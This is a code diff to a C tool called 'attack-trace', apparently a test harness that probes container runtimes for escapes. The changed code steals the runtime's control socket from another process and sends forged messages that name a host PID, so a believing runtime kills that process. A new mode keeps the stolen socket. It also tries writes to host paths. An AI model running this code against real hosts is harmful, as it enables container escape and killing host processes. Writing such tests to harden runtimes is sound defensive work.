@@ -5,10 +5,12 @@
  *
  *   attack-trace reach SECONDS PATH     through any of these, writes to PATH of the host
  *   attack-trace gain SECONDS PATH      the same, and looks for capabilities that we do not have,
- * the filter that we do, the runtime's environment attack-trace forge SECONDS PID      takes the
- * socket to the runtime out of it and tells the runtime that the process it started is the host's
- * PID, and that it failed: one that believes this ends PID attack-trace victim PATH            a
- * careless runtime: waits with the host's root open
+ *                                       the filter that we do, the runtime's environment
+ *   attack-trace forge SECONDS PID      takes the socket to the runtime out of it and tells the
+ *                                       runtime that the process it started is the host's PID, and
+ *                                       that it failed: one that believes this ends PID
+ *   attack-trace forge SECONDS keep     takes it and keeps it, as long as we are there
+ *   attack-trace victim PATH            a careless runtime: waits with the host's root open
  *
  * Prints "ready", then a line for each success.
  */
@@ -184,7 +186,7 @@ static void say(int fd, pid_t victim)
 	send(fd, &last, sizeof(last), 0);
 }
 
-static bool forge(int pidfd, pid_t victim)
+static bool forge(int pidfd, const char *victim)
 {
 	for (int n = 3; n < FDS; n++) {
 		socklen_t len = sizeof(int);
@@ -196,7 +198,11 @@ static bool forge(int pidfd, pid_t victim)
 			continue;
 		if (getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &len) == 0 &&
 		    type == SOCK_SEQPACKET) {
-			say(fd, victim);
+			if (strcmp(victim, "keep") == 0) {
+				puts("kept");
+				return true;
+			}
+			say(fd, atoi(victim));
 			puts("sent");
 			return true;
 		}
@@ -237,7 +243,7 @@ int main(int argc, char **argv)
 			if (pidfd < 0)
 				continue;
 			while (now() < until && now() < end && kill(p, 0) == 0)
-				if (forging ? forge(pidfd, atoi(argv[3]))
+				if (forging ? forge(pidfd, argv[3])
 					    : (gaining && (has_more(p) || reads_environment(p))) ||
 						      reach(p, argv[3]))
 					break;
